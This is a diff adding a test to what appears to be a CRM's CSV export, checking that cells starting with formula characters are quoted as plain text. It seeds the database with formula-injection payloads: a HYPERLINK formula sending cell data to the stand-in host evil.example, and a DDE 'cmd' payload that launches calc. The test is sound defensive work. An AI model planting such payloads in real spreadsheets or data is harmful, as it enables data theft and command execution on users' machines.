@@ -117,3 +117,46 @@ async def test_a_big_export_streams_with_a_progress_bar(db_url: str, tmp_path: P
     assert count == PROGRESS_FROM + 500
     assert "/1.50k" in bar.getvalue() and "rows" in bar.getvalue(), bar.getvalue()[-200:]
     assert len(_read(tmp_path / "big.csv")) == count + 1
+
+
+DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]  # OWASP: a spreadsheet runs a cell beginning with these
+
+
+async def test_cells_a_spreadsheet_would_run_as_formulas_are_plain_text(
+        db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    payload = 'HYPERLINK("http://evil.example/?"&A1,"x");=1+1'
+    engine = create_engine(db_url)
+    async with session_factory(engine).begin() as session:
+        session.add_all([User(id=f"U0EVIL{n}", name=f"{start}{payload}", created_at=NOW)
+                         for n, start in enumerate(DANGEROUS)])
+        await session.flush()
+        await session.execute(insert(Deal), [
+            dict(title=f"{start}{payload}", customer=f"{start}cmd|' /C calc'!A0", amount=Decimal("150000.50"),
+                 stage_key="proposal", owner_id=f"U0EVIL{n}", created_by=f"U0EVIL{n}", created_at=NOW,
+                 updated_at=NOW, custom_fields={}, version=1, lost_reason=f"{start}SUM(1,2)")
+            for n, start in enumerate(DANGEROUS)])
+        await session.execute(insert(TimelineEntry), [
+            dict(deal_id=n + 1, at=NOW, actor_id=f"U0EVIL{n}", kind="note", text=f"{start}{payload}")
+            for n, start in enumerate(DANGEROUS)])
+        session.add(Deal(title="'already quoted, -5% off", stage_key="proposal", owner_id="U0EVIL0",
+                         created_by="U0EVIL0", created_at=NOW, updated_at=NOW, custom_fields={}, version=1))
+    await engine.dispose()
+
+    deals, timeline = tmp_path / "deals.csv", tmp_path / "timeline.csv"
+    for kind, target in (("deals", deals), ("timeline", timeline)):
+        code, err = await _cli(["export", kind, str(target)], db_url, monkeypatch, tmp_path, capsys)
+        assert code == 0, err
+    header, *rows = _read(deals)
+    records = [dict(zip(header, row, strict=True)) for row in rows]
+    for record, start in zip(records, DANGEROUS, strict=False):
+        assert record["title"] == f"'{start}{payload}", "the whole title, read back as one cell, as text"
+        assert record["owner_name"] == f"'{start}{payload}"
+        assert record["customer"] == f"'{start}cmd|' /C calc'!A0"
+        assert record["lost_reason"] == f"'{start}SUM(1,2)"
+        assert record["amount"] == "150000.50", "a number stays a number"
+    assert records[-1]["title"] == "'already quoted, -5% off", "only a dangerous first character is changed"
+    assert all(not cell.startswith(tuple(DANGEROUS)) for row in rows for cell in row)
+    _, *entries = _read(timeline)
+    assert [entry[5] for entry in entries] == [f"'{start}{payload}" for start in DANGEROUS]
+    raw = deals.read_bytes().decode("utf-8-sig")
+    assert f'"\'={payload.replace(chr(34), chr(34) * 2)}"' in raw, "every cell quoted, a ; inside stays inside"
